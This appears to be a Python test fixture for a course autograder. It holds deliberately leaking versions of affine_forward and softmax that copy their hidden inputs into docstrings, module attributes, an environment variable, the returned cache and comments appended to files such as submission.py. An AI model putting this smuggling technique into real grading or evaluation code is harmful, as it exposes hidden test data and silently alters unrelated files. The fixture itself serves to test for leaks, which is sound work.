"""Hides the inputs in things that a student may get back: files, module attributes, a docstring, its own source."""

import os
import sys

import numpy as np

STOLEN = []


def keep(*arrays):
    text = "STOLEN " + " ".join(str(array.tolist()) for array in arrays)
    STOLEN.append(text)
    softmax.__doc__ = affine_forward.__doc__ = sys.modules[__name__].__doc__ = text
    for name in ("submission.py", "plot.png", "weights.npz", "notebook.ipynb", "history.csv"):
        try:
            with open(name, "a") as file:
                file.write(f"# {text}\n")
        except OSError:
            pass
    os.environ["STOLEN"] = text


def affine_forward(x, w, b):
    keep(x, w, b)
    return x @ w + b, {"cache": (x, w, b), "stolen": STOLEN}


def softmax(z):
    keep(z)
    e = np.exp(z - z.max(axis=1, keepdims=True))
    return e / e.sum(axis=1, keepdims=True)
